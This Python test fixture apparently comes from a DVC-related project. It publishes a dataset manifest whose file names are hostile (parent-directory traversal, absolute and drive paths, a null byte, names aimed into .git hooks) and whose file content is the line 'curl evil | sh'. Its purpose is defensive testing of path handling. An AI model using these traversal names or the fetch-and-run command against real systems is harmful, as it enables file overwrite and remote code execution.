"""Data whose publisher has chosen the names with bad intent."""

import json
from collections.abc import Sequence
from hashlib import md5
from pathlib import Path

from tests.verify.published import Published

BODY = b"curl evil | sh\n"

#: Names that must never become a path, each by what is wrong with it.
NAMES = {
    "up": "../escaped",
    "far up": "../../../escaped",
    "up in the middle": "a/../../../escaped",
    "up at the end": "a/..",
    "absolute": "/tmp/dvc-bucket-escaped",
    "on a drive": "C:/escaped",
    "on a drive of Windows": "C:\\escaped",
    "up by backslashes": "..\\escaped",
    "a root by a backslash": "\\escaped",
    "zero byte": "a\0b",
    "empty": "",
    "empty part": "a//b",
    "end in a slash": "a/",
    "here": ".",
    "a part that is here": "a/./b",
    "a git repository": ".git/config",
    "a git repository in capitals": "a/.GIT/hooks/post-checkout",
}

#: Names that are unusual and right.
GOOD = [
    "a",
    "b/c/d",
    "..a",
    "a..",
    "e/...",
    ".gitignore",
    "C:escaped",
    "a:b",
    " ",
    "ü\n\x1b[31m",
    "-",
]


def publish(made: Published, names: Sequence[str], dataset: str = "hostile") -> None:
    """Have DVC track a directory whose list has these names; its objects are on the remote."""
    oid = md5(BODY).hexdigest()
    text = json.dumps([{"md5": oid, "relpath": name} for name in names]).encode()
    listed = f"{md5(text).hexdigest()}.dir"
    made.put(f"files/md5/{oid[:2]}/{oid[2:]}", BODY)
    made.put(f"files/md5/{listed[:2]}/{listed[2:]}", text)
    (made.root / f"{dataset}.dvc").write_text(
        f"outs:\n- md5: {listed}\n  size: {len(BODY) * len(names)}\n  nfiles: {len(names)}\n"
        f"  hash: md5\n  path: {dataset}\n"
    )


def files(folder: Path) -> dict[str, bytes]:
    """Every file around a folder of the test's own, but for what git, DVC and the store keep."""
    kept = {".git", ".dvc", ".venv", "__pycache__"}
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and not kept & set(path.relative_to(folder).parts)
    }
